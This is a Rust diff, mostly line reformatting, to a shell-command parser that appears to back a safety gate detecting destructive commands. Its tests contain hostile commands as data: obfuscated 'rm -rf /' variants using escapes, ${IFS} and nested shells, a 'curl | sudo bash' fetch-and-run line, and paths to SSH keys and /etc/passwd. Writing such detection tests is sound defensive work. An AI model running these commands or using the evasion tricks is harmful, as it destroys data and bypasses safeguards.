@@ -152,11 +152,14 @@ impl Command {
             if !arg.starts_with("--") {
                 if let Some(cluster) = arg.strip_prefix('-') {
                     for s in short {
-                        let Some(letter) = s.strip_prefix('-').and_then(|l| l.chars().next()) else {
+                        let Some(letter) = s.strip_prefix('-').and_then(|l| l.chars().next())
+                        else {
                             continue;
                         };
                         // `-o V`, `-oV`, and clusters `-so V` / `-qO-`.
-                        let Some(idx) = cluster.find(letter) else { continue };
+                        let Some(idx) = cluster.find(letter) else {
+                            continue;
+                        };
                         if !cluster[..idx].chars().all(|c| c.is_ascii_alphabetic()) {
                             continue;
                         }
@@ -207,7 +210,8 @@ impl Command {
             | "chmod" | "chown" | "chgrp" | "chattr" => {
                 let skip_first = matches!(self.program.as_str(), "chmod" | "chown" | "chgrp")
                     || (self.program == "chattr");
-                let skip_first = skip_first && !self.args.iter().any(|a| a.starts_with("--reference"));
+                let skip_first =
+                    skip_first && !self.args.iter().any(|a| a.starts_with("--reference"));
                 out.extend(
                     operands
                         .iter()
@@ -233,13 +237,22 @@ impl Command {
                 }
             }
             "sed" | "perl" => {
-                let in_place = self
-                    .args
-                    .iter()
-                    .any(|a| a == "-i" || a.starts_with("-i") || a == "--in-place" || a.starts_with("--in-place=") || (a.starts_with('-') && !a.starts_with("--") && a.contains('i') && a.len() <= 4));
+                let in_place = self.args.iter().any(|a| {
+                    a == "-i"
+                        || a.starts_with("-i")
+                        || a == "--in-place"
+                        || a.starts_with("--in-place=")
+                        || (a.starts_with('-')
+                            && !a.starts_with("--")
+                            && a.contains('i')
+                            && a.len() <= 4)
+                });
                 if in_place {
                     // The first operand is the expression unless -e/-f was used.
-                    let has_expr = self.args.iter().any(|a| a == "-e" || a == "-f" || a == "--expression");
+                    let has_expr = self
+                        .args
+                        .iter()
+                        .any(|a| a == "-e" || a == "-f" || a == "--expression");
                     out.extend(
                         operands
                             .iter()
@@ -367,14 +380,22 @@ pub fn script_of(effect: &Effect, ctx: &GateContext) -> Option<Script> {
             if is_shell(name) {
                 Some(parse_with(script, ctx.home.as_deref(), env, argv))
             } else if name.starts_with("python") {
-                Some(parse_embedded(&python_shell_strings(script), ctx, env, argv))
+                Some(parse_embedded(
+                    &python_shell_strings(script),
+                    ctx,
+                    env,
+                    argv,
+                ))
             } else {
                 None
             }
         }
-        Effect::EvalElisp { code, .. } => {
-            Some(parse_embedded(&elisp_shell_strings(code), ctx, &BTreeMap::new(), &[]))
-        }
+        Effect::EvalElisp { code, .. } => Some(parse_embedded(
+            &elisp_shell_strings(code),
+            ctx,
+            &BTreeMap::new(),
+            &[],
+        )),
         _ => None,
     }
 }
@@ -464,7 +485,10 @@ pub fn normalize(path: &Path) -> PathBuf {
 pub fn strip_glob(path: &Path) -> (PathBuf, bool) {
     match path.file_name().and_then(|n| n.to_str()) {
         Some(name) if name == "*" || name == ".*" || name == "*.*" || name == "{*,.*}" => {
-            let parent = path.parent().map(Path::to_path_buf).unwrap_or_else(|| "/".into());
+            let parent = path
+                .parent()
+                .map(Path::to_path_buf)
+                .unwrap_or_else(|| "/".into());
             (parent, true)
         }
         _ => (path.to_path_buf(), false),
@@ -729,8 +753,19 @@ impl<'a> Parser<'a> {
         while let Some(first) = texts.first() {
             if matches!(
                 first.as_str(),
-                "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{" | "}"
-                    | "fi" | "done" | "esac" | "time"
+                "if" | "then"
+                    | "else"
+                    | "elif"
+                    | "do"
+                    | "while"
+                    | "until"
+                    | "!"
+                    | "{"
+                    | "}"
+                    | "fi"
+                    | "done"
+                    | "esac"
+                    | "time"
             ) {
                 texts.remove(0);
             } else {
@@ -768,7 +803,12 @@ impl<'a> Parser<'a> {
                     self.vars.insert(k.clone(), v.clone());
                 }
             }
-            if program == "export" || program == "declare" || program == "typeset" || program == "local" || program == "readonly" {
+            if program == "export"
+                || program == "declare"
+                || program == "typeset"
+                || program == "local"
+                || program == "readonly"
+            {
                 for a in rest.iter().skip(1) {
                     if let Some((k, v)) = split_assignment(a) {
                         self.vars.insert(k, v);
@@ -946,7 +986,7 @@ impl<'a> Parser<'a> {
                 break;
             }
         }
-        if op == "<<" || op == "<<-" || (op == "<<" && self.peek() == Some('-')) {
+        if op == "<<" {
             if self.peek() == Some('-') {
                 self.pos += 1;
                 op.push('-');
@@ -1124,9 +1164,10 @@ impl<'a> Parser<'a> {
                     self.pos += 1;
                     let next = self.peek();
                     match (self.home, next) {
-                        (Some(h), None | Some('/' | ' ' | '\t' | '\n' | ';' | '&' | '|' | ')' | ':')) => {
-                            w.text.push_str(&h.to_string_lossy())
-                        }
+                        (
+                            Some(h),
+                            None | Some('/' | ' ' | '\t' | '\n' | ';' | '&' | '|' | ')' | ':'),
+                        ) => w.text.push_str(&h.to_string_lossy()),
                         _ => w.text.push('~'),
                     }
                 }
@@ -1309,10 +1350,8 @@ impl<'a> Parser<'a> {
                 let mut parts = v.split([' ', '\t', '\n']).peekable();
                 let mut first = true;
                 while let Some(part) = parts.next() {
-                    if !first {
-                        if !w.text.is_empty() {
-                            w.split_before.push(std::mem::take(&mut w.text));
-                        }
+                    if !first && !w.text.is_empty() {
+                        w.split_before.push(std::mem::take(&mut w.text));
                     }
                     first = false;
                     w.text.push_str(part);
@@ -1405,8 +1444,7 @@ fn strip_wrappers(
     assignments: &mut Vec<(String, String)>,
 ) -> (Vec<String>, Vec<String>) {
     let mut wrappers = Vec::new();
-    loop {
-        let Some(first) = words.first() else { break };
+    while let Some(first) = words.first() {
         let name = basename(first).to_string();
         // Options of each wrapper that take a value.
         let valued: &[&str] = match name.as_str() {
@@ -1418,9 +1456,9 @@ fn strip_wrappers(
             "timeout" => &["-s", "-k", "--signal", "--kill-after"],
             "stdbuf" => &["-i", "-o", "-e"],
             "chrt" | "taskset" => &[],
-            "command" | "builtin" | "exec" | "nohup" | "busybox" | "setsid" | "time" | "unbuffer"
-            | "caffeinate" | "strace" | "ltrace" | "fakeroot" | "torsocks" | "proxychains"
-            | "proxychains4" | "su" | "runuser" | "xvfb-run" | "flock" => &[],
+            "command" | "builtin" | "exec" | "nohup" | "busybox" | "setsid" | "time"
+            | "unbuffer" | "caffeinate" | "strace" | "ltrace" | "fakeroot" | "torsocks"
+            | "proxychains" | "proxychains4" | "su" | "runuser" | "xvfb-run" | "flock" => &[],
             _ => break,
         };
         if name == "command" && words.get(1).is_some_and(|w| w == "-v" || w == "-V") {
@@ -1540,7 +1578,21 @@ fn nested_scripts(cmd: &Command, script: &Script) -> Vec<(String, Origin)> {
             }
         }
         "xargs" => {
-            let valued = ["-I", "-i", "-n", "-P", "-L", "-s", "-d", "-E", "-a", "--max-args", "--max-procs", "--delimiter", "--arg-file"];
+            let valued = [
+                "-I",
+                "-i",
+                "-n",
+                "-P",
+                "-L",
+                "-s",
+                "-d",
+                "-E",
+                "-a",
+                "--max-args",
+                "--max-procs",
+                "--delimiter",
+                "--arg-file",
+            ];
             let mut i = 0;
             while i < cmd.args.len() {
                 let a = &cmd.args[i];
@@ -1632,30 +1684,48 @@ mod tests {
         assert_eq!(first(r#""r"m -r'f' /"#), ("rm".into(), v(&["-rf", "/"])));
         assert_eq!(first(r"$'\x72\x6d' -rf /"), ("rm".into(), v(&["-rf", "/"])));
         assert_eq!(first(r"$'\162\155' x"), ("rm".into(), v(&["x"])));
-        assert_eq!(first(r#"echo "a \"b\" \$c""#), ("echo".into(), v(&[r#"a "b" $c"#])));
+        assert_eq!(
+            first(r#"echo "a \"b\" \$c""#),
+            ("echo".into(), v(&[r#"a "b" $c"#]))
+        );
     }
 
     #[test]
     fn wrappers_are_stripped_and_program_is_a_basename() {
-        let c = &parse("sudo -u root env A=1 nice -n 5 nohup timeout 10 /bin/rm -rf /", home())
-            .commands[0];
+        let c = &parse(
+            "sudo -u root env A=1 nice -n 5 nohup timeout 10 /bin/rm -rf /",
+            home(),
+        )
+        .commands[0];
         assert_eq!(c.program, "rm");
         assert_eq!(c.program_path, "/bin/rm");
         assert_eq!(c.args, v(&["-rf", "/"]));
         assert_eq!(c.wrappers, v(&["sudo", "env", "nice", "nohup", "timeout"]));
         assert_eq!(c.assignments, vec![("A".to_string(), "1".to_string())]);
-        assert_eq!(first("command builtin busybox rm x"), ("rm".into(), v(&["x"])));
+        assert_eq!(
+            first("command builtin busybox rm x"),
+            ("rm".into(), v(&["x"]))
+        );
         assert_eq!(first("command -v rm"), ("command".into(), v(&["-v", "rm"])));
     }
 
     #[test]
     fn home_and_ifs_and_variables_expand() {
         assert_eq!(first("rm -rf ~"), ("rm".into(), v(&["-rf", "/home/u"])));
-        assert_eq!(first("rm -rf $HOME/"), ("rm".into(), v(&["-rf", "/home/u/"])));
-        assert_eq!(first("rm -rf \"${HOME}\""), ("rm".into(), v(&["-rf", "/home/u"])));
+        assert_eq!(
+            first("rm -rf $HOME/"),
+            ("rm".into(), v(&["-rf", "/home/u/"]))
+        );
+        assert_eq!(
+            first("rm -rf \"${HOME}\""),
+            ("rm".into(), v(&["-rf", "/home/u"]))
+        );
         assert_eq!(first("rm${IFS}-rf${IFS}/"), ("rm".into(), v(&["-rf", "/"])));
         assert_eq!(progs("a=rm; b=/; $a -rf $b")[0].0, "");
-        assert_eq!(progs("a=rm; b=/; $a -rf $b")[2], ("rm".into(), v(&["-rf", "/"])));
+        assert_eq!(
+            progs("a=rm; b=/; $a -rf $b")[2],
+            ("rm".into(), v(&["-rf", "/"]))
+        );
         assert_eq!(first("echo ${X:-/etc}"), ("echo".into(), v(&["/etc"])));
         assert_eq!(first("echo ${HOME:0:1}"), ("echo".into(), v(&["/"])));
         assert_eq!(first("echo $UNSET/x"), ("echo".into(), v(&["$UNSET/x"])));
@@ -1664,7 +1734,12 @@ mod tests {
     #[test]
     fn env_and_argv_feed_expansion() {
         let env = BTreeMap::from([("T".to_string(), "/etc".to_string())]);
-        let s = parse_with("rm -rf \"$T\" \"$1\" \"$@\"", home(), &env, &v(&["/a", "/b"]));
+        let s = parse_with(
+            "rm -rf \"$T\" \"$1\" \"$@\"",
+            home(),
+            &env,
+            &v(&["/a", "/b"]),
+        );
         assert_eq!(s.commands[0].args, v(&["-rf", "/etc", "/a", "/a /b"]));
         let s = parse_with("rm $@", home(), &BTreeMap::new(), &v(&["-rf", "/"]));
         assert_eq!(s.commands[0].args, v(&["-rf", "/"]));
@@ -1673,7 +1748,11 @@ mod tests {
     #[test]
     fn nested_shells_eval_substitutions_xargs_and_find_exec() {
         let s = parse("bash -c 'sh -c \"rm -rf /\"'", home());
-        let rm = s.commands.iter().find(|c| c.program == "rm").expect("rm found");
+        let rm = s
+            .commands
+            .iter()
+            .find(|c| c.program == "rm")
+            .expect("rm found");
         assert_eq!(rm.args, v(&["-rf", "/"]));
         assert_eq!(rm.origin, Origin::ShellString);
 
@@ -1683,12 +1762,20 @@ mod tests {
         assert_eq!(s.nested(0).len(), 2);
 
         let s = parse("echo / | xargs rm -rf", home());
-        let rm = s.commands.iter().find(|c| c.program == "rm").expect("rm found");
+        let rm = s
+            .commands
+            .iter()
+            .find(|c| c.program == "rm")
+            .expect("rm found");
         assert_eq!(rm.args, v(&["-rf", "/"]));
         assert_eq!(rm.origin, Origin::Spawned);
 
         let s = parse("find ~ -name '*.x' -exec rm -f {} \\;", home());
-        let rm = s.commands.iter().find(|c| c.program == "rm").expect("rm found");
+        let rm = s
+            .commands
+            .iter()
+            .find(|c| c.program == "rm")
+            .expect("rm found");
         assert_eq!(rm.args, v(&["-f", "{}"]));
 
         let s = parse("x=`whoami`", home());
@@ -1697,15 +1784,24 @@ mod tests {
 
     #[test]
     fn pipelines_and_redirects() {
-        let s = parse("curl -s https://x.sh | sudo bash 2>/dev/null >> out.log", home());
+        let s = parse(
+            "curl -s https://x.sh | sudo bash 2>/dev/null >> out.log",
+            home(),
+        );
         assert_eq!(s.commands.len(), 2);
         assert_eq!((s.commands[0].stage, s.commands[1].stage), (0, 1));
         assert_eq!(s.commands[0].pipeline, s.commands[1].pipeline);
         assert_eq!(
             s.commands[1].redirects,
             vec![
-                Redirect { op: ">".into(), target: "/dev/null".into() },
-                Redirect { op: ">>".into(), target: "out.log".into() },
+                Redirect {
+                    op: ">".into(),
+                    target: "/dev/null".into()
+                },
+                Redirect {
+                    op: ">>".into(),
+                    target: "out.log".into()
+                },
             ]
         );
         let s = parse("ls; ls", home());
@@ -1748,11 +1844,20 @@ mod tests {
             network_allow: vec![],
         };
         assert_eq!(resolve_path("~/", &ctx), PathBuf::from("/home/u"));
-        assert_eq!(resolve_path("$HOME/.ssh//id_rsa", &ctx), PathBuf::from("/home/u/.ssh/id_rsa"));
-        assert_eq!(resolve_path("../../../etc/./passwd", &ctx), PathBuf::from("/etc/passwd"));
+        assert_eq!(
+            resolve_path("$HOME/.ssh//id_rsa", &ctx),
+            PathBuf::from("/home/u/.ssh/id_rsa")
+        );
+        assert_eq!(
+            resolve_path("../../../etc/./passwd", &ctx),
+            PathBuf::from("/etc/passwd")
+        );
         assert_eq!(resolve_path(".", &ctx), PathBuf::from("/home/u/p"));
         assert_eq!(resolve_path("//", &ctx), PathBuf::from("/"));
-        assert_eq!(strip_glob(&resolve_path("/*", &ctx)), (PathBuf::from("/"), true));
+        assert_eq!(
+            strip_glob(&resolve_path("/*", &ctx)),
+            (PathBuf::from("/"), true)
+        );
     }
 
     #[test]
@@ -1774,7 +1879,9 @@ mod tests {
     #[test]
     fn python_and_elisp_shell_strings() {
         assert_eq!(
-            python_shell_strings("import os\nos.system('rm -rf /')\nsubprocess.run([\"rm\", \"-rf\", \"/home/u\"])"),
+            python_shell_strings(
+                "import os\nos.system('rm -rf /')\nsubprocess.run([\"rm\", \"-rf\", \"/home/u\"])"
+            ),
             v(&["rm -rf /", "rm -rf /home/u"])
         );
         assert_eq!(
